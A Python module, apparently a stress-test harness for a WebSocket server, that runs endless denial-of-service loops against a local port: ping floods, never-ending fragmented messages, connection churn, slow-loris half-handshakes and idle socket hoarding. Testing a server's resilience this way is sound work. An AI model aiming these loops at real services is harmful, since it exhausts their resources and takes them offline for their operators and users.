"""Attacks below the level of messages: sockets, handshakes and control frames. Each goes on until
it is ended."""

from __future__ import annotations

import socket
import time
from collections import deque
from contextlib import suppress
from typing import Any

from websockets.frames import Frame, Opcode

HANDSHAKE = (
    b"GET / HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
)


def open_socket(port: int, sent: bytes = HANDSHAKE) -> socket.socket:
    opened = socket.create_connection(("127.0.0.1", port))
    opened.sendall(sent)
    return opened


def discard_input(opened: socket.socket) -> None:
    with suppress(BlockingIOError):
        while opened.recv(65536, socket.MSG_DONTWAIT):
            pass


def send_frames(port: int, frames: list[bytes], done: Any) -> None:
    """Frames one behind the other without waiting for an answer, on one connection at a time."""
    while True:
        with suppress(OSError), open_socket(port) as opened:
            while True:
                for frame in frames:
                    opened.sendall(frame)
                    discard_input(opened)
                    done.value += 1


def pings(port: int, done: Any) -> None:
    """Pings, each of which is to be answered."""
    send_frames(port, [Frame(Opcode.PING, b"x" * 125).serialize(mask=True)], done)


def fragments(port: int, done: Any) -> None:
    """A message in empty parts that never ends."""
    send_frames(port, [Frame(Opcode.CONT, b"", fin=False).serialize(mask=True)], done)


def connections(port: int, done: Any) -> None:
    """Connections that are opened and left at once."""
    while True:
        with suppress(OSError):
            open_socket(port).close()
            done.value += 1


def half_handshakes(port: int, done: Any) -> None:
    """Handshakes that never end, begun anew as they are dropped (slow loris)."""
    hold_sockets(port, b"GET / HTTP/1.1\r\nHo", 0.002, done)


def idle(port: int, done: Any) -> None:
    """Clients that never ask for anything."""
    hold_sockets(port, HANDSHAKE, 0.01, done)


def hold_sockets(port: int, sent: bytes, pause: float, done: Any) -> None:
    """Keep the last sockets open, and open more."""
    held: deque[socket.socket] = deque()
    while True:
        with suppress(OSError):
            held.append(open_socket(port, sent))
            done.value += 1
        if len(held) > 300:
            held.popleft().close()
        time.sleep(pause)
